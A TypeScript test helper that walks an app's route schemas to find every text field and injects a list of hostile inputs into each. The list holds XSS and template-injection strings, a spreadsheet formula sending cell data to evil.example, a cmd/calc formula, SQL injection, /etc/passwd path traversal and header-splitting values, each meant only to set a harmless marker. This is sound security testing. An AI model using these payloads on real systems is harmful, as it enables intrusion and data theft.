/** What somebody who means ill might type, and every place of the declared routes where a text can be typed. */
import { z } from 'zod';
import type { RouteDeclaration } from '../src/common/route.ts';

/** Each marks `window.harmed` where a page runs it. */
export const hostileTexts = {
  script: '<script>window.harmed = 1</script>',
  image: '<img src=x onerror="window.harmed = 1">',
  'broken out': '"\'><svg onload=window.harmed=1><!--',
  address: 'javascript:window.harmed=1',
  'data address': 'data:text/html,<script>window.harmed=1</script>',
  template: '{{constructor.constructor("window.harmed=1")()}}',
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  command: "@SUM(1+9)*cmd|' /C calc'!A0",
  sql: "'; drop table node; --",
  'other direction': 'invoice\u202egpj.exe\u2066',
  'no width': 'Kest\u200brel\u200d\ufeffline',
  path: '../../../../etc/passwd',
  placeholder: '{name} {0} %s %n $& $1',
  'too long': 'x'.repeat(10_000),
  'line break': 'one\r\nSet-Cookie: harmed=1',
  nul: 'a\0b',
  'half a character': 'a\ud800b',
  prototype: '__proto__',
} as const;

/** What PostgreSQL or UTF-8 cannot hold is refused everywhere, never changed in silence. */
export const unstorable = ['nul', 'half a character'];

export type Place = readonly (string | number)[];

/** A value that a schema takes: all that is needed, and one place where somebody can type. */
export interface Trial {
  value: unknown;
  place: Place;
}

/** One alternative of a schema: the least that it takes, and every place of it where somebody can type. */
export interface Filled {
  least: unknown;
  trials: readonly Trial[];
}

interface Schema {
  type?: string | string[];
  const?: unknown;
  enum?: unknown[];
  anyOf?: Schema[];
  oneOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: Schema | boolean;
  items?: Schema;
  minimum?: number;
  format?: string;
  pattern?: string;
}

/** Finds the id that a field such as `supplierId` may name. */
export type IdFor = (field: string) => string;

/** What a route's body or query may look like, one for each alternative of its schema. */
export function fillingsOf(shape: z.ZodType | undefined, idFor: IdFor): Filled[] {
  if (!shape) return [];
  return fill(z.toJSONSchema(shape, { io: 'input', unrepresentable: 'any' }) as Schema, '', idFor);
}

export function trialsOf(shape: z.ZodType | undefined, idFor: IdFor): Trial[] {
  return fillingsOf(shape, idFor).flatMap(({ trials }) => trials);
}

function fill(schema: Schema, field: string, idFor: IdFor): Filled[] {
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) {
    return alternatives.filter(({ type }) => type !== 'null').flatMap((one) => fill(one, field, idFor));
  }
  if (schema.const !== undefined) return [{ least: schema.const, trials: [] }];
  if (schema.enum) return [{ least: schema.enum[0], trials: [] }];
  switch ([schema.type].flat().find((type) => type !== 'null')) {
    case 'object':
      return [fillObject(schema, idFor)];
    case 'array':
      return fill(schema.items ?? {}, field, idFor).map(({ least, trials }) => ({
        least: [least],
        trials: trials.map(({ value, place }) => ({ value: [value], place: [0, ...place] })),
      }));
    case 'integer':
    case 'number':
      return [{ least: Math.max(1, schema.minimum ?? 1), trials: [] }];
    case 'boolean':
      return [{ least: true, trials: [] }];
    default: {
      const text = plainText(schema, field, idFor);
      return [{ least: text, trials: [{ value: text, place: [] }] }];
    }
  }
}

function fillObject({ properties = {}, required = [], additionalProperties }: Schema, idFor: IdFor): Filled {
  const filled = Object.entries(properties).map(([name, one]) => [name, fill(one, name, idFor)] as const);
  if (typeof additionalProperties === 'object') filled.push(['any name', fill(additionalProperties, '', idFor)]);
  const needed = filled.filter(([name]) => required.includes(name));
  const least = Object.fromEntries(needed.map(([name, [first]]) => [name, first!.least]));
  const trials = filled.flatMap(([name, alternatives]) =>
    alternatives.flatMap((one) =>
      one.trials.map(({ value, place }) => ({ value: { ...least, [name]: value }, place: [name, ...place] })),
    ),
  );
  return { least, trials };
}

let texts = 0;

/** A text that the schema takes; every one another, so that nothing is refused for standing there twice. */
function plainText({ format, pattern }: Schema, field: string, idFor: IdFor): string {
  texts++;
  if (format === 'email') return `person${texts}@example.org`;
  if (format === 'date') return '2026-03-14';
  if (format === 'date-time') return '2026-03-14T10:00:00.000Z';
  if (/Ids?$|^(node|from|to|of)$/.test(field)) return idFor(field);
  const wanted = pattern === undefined ? /(?:)/ : new RegExp(pattern, 'u');
  return [`Plain text ${texts}`, 'FI', String(texts), 'https://example.org/'].find((text) => wanted.test(text)) ?? '';
}

/** The value with another text in one place. */
export function withText(value: unknown, place: Place, text: string): unknown {
  const [step, ...rest] = place;
  if (step === undefined) return text;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>;
  copy[step] = withText(copy[step], rest, text);
  return copy;
}

/** `?q=a&kind=b`, with lists as repeated fields. */
export function queryOf(value: unknown): string {
  const query = Object.entries(value as object).flatMap(([name, given]) =>
    (Array.isArray(given) ? given : [given]).map((one) => `${name}=${encodeURIComponent(String(one))}`),
  );
  return query.length > 0 ? `?${query.join('&')}` : '';
}

export const nowhere = '01890000-0000-7000-8000-000000000000';

/** The path of a route with the ids of things that are there. */
export function pathOf({ path }: RouteDeclaration, ids: Readonly<Record<string, string>>): string {
  const id = ids[`/${path.split('/')[1]}`] ?? nowhere;
  return path
    .replace('{kind}', 'kev')
    .replace('{id}', id)
    .replaceAll(/\{\w+\}/g, nowhere);
}

/** Which thing a field means, by its name: `makerId` is a supplier. */
const collections: Record<string, string> = {
  supplier: '/suppliers',
  maker: '/suppliers',
  parent: '/suppliers',
  from: '/suppliers',
  site: '/sites',
  product: '/products',
  to: '/products',
  node: '/products',
  subject: '/products',
  system: '/systems',
  function: '/functions',
  link: '/links',
  user: '/members',
};

export function idFinder(ids: Readonly<Record<string, string>>): IdFor {
  return (field) => ids[collections[field.replace(/Ids?$/, '')] ?? ''] ?? nowhere;
}
